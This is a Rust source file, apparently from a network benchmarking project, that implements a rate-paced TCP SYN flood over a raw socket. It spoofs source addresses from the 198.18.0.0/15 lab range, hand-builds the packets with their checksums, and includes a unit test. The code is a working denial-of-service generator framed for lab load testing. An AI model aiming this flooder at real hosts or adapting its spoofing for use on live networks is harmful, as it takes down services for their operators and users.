//! A flood: first packets of TCP connections that nobody means, from many sources, at a steady pace.
//!
//! Written by hand on a raw socket, so that sources need not be anybody's: RFC 2544's 198.18.0.0/15, which leads nowhere in a lab, and so answers die
//! at the flood's own machine. One CPU only, as one receive queue would have it.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::AsRawFd;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use nix::sched::{CpuSet, sched_setaffinity};
use nix::sys::socket::{AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, sendto, socket};
use nix::unistd::Pid;

use crate::let_pass;

/// Sources: 198.18.0.0/15.
const FIRST_SOURCE: u32 = u32::from_be_bytes([198, 18, 0, 0]);
const SOURCES: u32 = 1 << 17;
/// Packets go out in bursts so long apart.
const BURST: Duration = Duration::from_millis(5);

/// Sends SYNs to `to`, `per_second` of them, until `enough` or `most` were sent; says how many. The calling thread stays on CPU 0 from then on.
pub fn syn_flood(to: SocketAddrV4, per_second: u32, most: u32, enough: &AtomicBool) -> Result<u32> {
    let mut cpu = CpuSet::new();
    cpu.set(0)?;
    sched_setaffinity(Pid::from_raw(0), &cpu).context("staying on one CPU")?;
    let raw = socket(AddressFamily::Inet, SockType::Raw, SockFlag::SOCK_CLOEXEC, SockProtocol::Raw)
        .context("a raw socket for the flood (needs root)")?;
    let (burst, target) = ((per_second / 200).max(1), SockaddrIn::from(to));
    let began = Instant::now();
    let mut sent = 0;
    while sent < most && !enough.load(Ordering::Relaxed) {
        for n in sent..sent + burst {
            // A full queue is a loss like any other.
            let _ = sendto(raw.as_raw_fd(), &syn(n, to), &target, MsgFlags::MSG_DONTWAIT);
        }
        sent += burst;
        let due = began + BURST * (sent / burst);
        let_pass(due.saturating_duration_since(Instant::now())); // the pace is what is asked for
    }
    Ok(sent)
}

/// The `n`th packet: IPv4 and TCP without options or data (RFC 791, RFC 9293).
fn syn(n: u32, to: SocketAddrV4) -> [u8; 40] {
    let source = Ipv4Addr::from(FIRST_SOURCE + n.wrapping_mul(0x9e37_79b1) % SOURCES);
    let mut packet = [0; 40];
    packet[0] = 0x45;
    packet[3] = 40;
    packet[8] = 64;
    packet[9] = 6;
    packet[12..16].copy_from_slice(&source.octets());
    packet[16..20].copy_from_slice(&to.ip().octets());
    // The kernel fills in the IP header's checksum (raw(7)), not TCP's.
    packet[20..22].copy_from_slice(&(1_024 + (n % 60_000) as u16).to_be_bytes());
    packet[22..24].copy_from_slice(&to.port().to_be_bytes());
    packet[24..28].copy_from_slice(&n.to_be_bytes());
    packet[32] = 5 << 4;
    packet[33] = 0x02;
    packet[34..36].copy_from_slice(&0xffff_u16.to_be_bytes());
    let mut sum = 6 + 20; // protocol and length, of the pseudo-header
    for word in packet[12..40].chunks_exact(2) {
        sum += u32::from(u16::from_be_bytes([word[0], word[1]]));
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    packet[36..38].copy_from_slice(&(!(sum as u16)).to_be_bytes());
    packet
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;

    #[test]
    fn every_packet_is_another_flow_with_a_right_checksum() {
        let to = SocketAddrV4::new(Ipv4Addr::new(192, 0, 2, 1), 8000);
        let flows: HashSet<[u8; 10]> =
            (0..200_000).map(|n| syn(n, to)[12..22].try_into().expect("ten bytes")).collect();
        assert_eq!(flows.len(), 200_000);
        let packet = syn(77, to);
        let words = packet[12..].chunks_exact(2).map(|word| u32::from(u16::from_be_bytes([word[0], word[1]])));
        let sum: u32 = words.sum::<u32>() + 26;
        assert_eq!((sum & 0xffff) + (sum >> 16), 0xffff, "RFC 1071: with its checksum all ones");
    }
}
